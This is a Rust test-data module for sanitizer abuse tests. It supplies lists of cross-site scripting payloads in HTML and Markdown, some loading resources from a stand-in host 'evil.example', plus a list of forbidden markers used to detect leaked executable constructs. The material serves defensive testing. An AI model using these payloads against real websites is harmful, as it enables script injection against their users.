// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: PMPL-1.0-or-later

//! Test data generators for abuse simulation.

/// Generate a pool of caller identities.
pub fn generate_keys(count: usize) -> Vec<String> {
    (0..count).map(|i| format!("user-{i:04}")).collect()
}

/// HTML payloads that must not survive sanitization intact.
pub fn generate_html_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        r#"<img src="x" onerror="alert(1)">"#,
        r#"<a href="javascript:alert(1)">click</a>"#,
        r#"<a href=" javascript:alert(1)">click</a>"#,
        r#"<a href="jav&#x09;ascript:alert(1)">click</a>"#,
        r#"<a href="vbscript:msgbox(1)">click</a>"#,
        r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
        r#"<p onclick="alert(1)" style="background:url(javascript:alert(1))">p</p>"#,
        r#"<svg onload="alert(1)"><circle r="1"/></svg>"#,
        r#"<iframe src="javascript:alert(1)"></iframe>"#,
        r#"<object data="https://evil.example/x.swf"></object>"#,
        r#"<form action="https://evil.example"><button>go</button></form>"#,
        r#"<body onload="alert(1)">"#,
        r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
        r#"<style>@import 'https://evil.example/x.css';</style>"#,
        r#"<div><script>nested()</script><span onmouseover="x()">s</span></div>"#,
        "<scr<script>ipt>alert(1)</script>",
        "<!--<script>alert(1)</script>-->",
        "<pre>\n\nx</pre>",
        "<pre class=\"language-html\">\n\n<script>alert(1)</script></pre>",
    ]
}

/// Markdown sources that smuggle unsafe constructs.
pub fn generate_markdown_payloads() -> Vec<&'static str> {
    vec![
        "[click](javascript:alert(1))",
        "![img](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "<script>alert(1)</script>",
        "hello <img src=x onerror=alert(1)> world",
        "<a href=\"javascript:alert(1)\">inline</a>",
        "[ref][1]\n\n[1]: javascript:alert(1)",
        "| a |\n|---|\n| <script>alert(1)</script> |",
        "> <iframe src=\"https://evil.example\"></iframe>",
        "```html\n<script>alert(1)</script>\n```",
    ]
}

/// Substrings that indicate an executable construct leaked through.
pub fn forbidden_markers() -> Vec<&'static str> {
    vec![
        "<script",
        "<iframe",
        "<object",
        "<svg",
        "<form",
        "<style",
        "<meta",
        "onerror=",
        "onclick=",
        "onload=",
        "onmouseover=",
        "style=",
        "javascript:",
        "vbscript:",
        "data:text/html",
    ]
}

/// Content of an exact UTF-8 byte size.
pub fn content_of_size(bytes: usize) -> String {
    "a".repeat(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_generate_keys() {
        let keys = generate_keys(256);
        assert_eq!(keys.len(), 256);
        let unique: std::collections::HashSet<_> = keys.iter().collect();
        assert_eq!(unique.len(), 256);
    }

    #[test]
    fn test_content_of_size() {
        assert_eq!(content_of_size(10).len(), 10);
    }
}
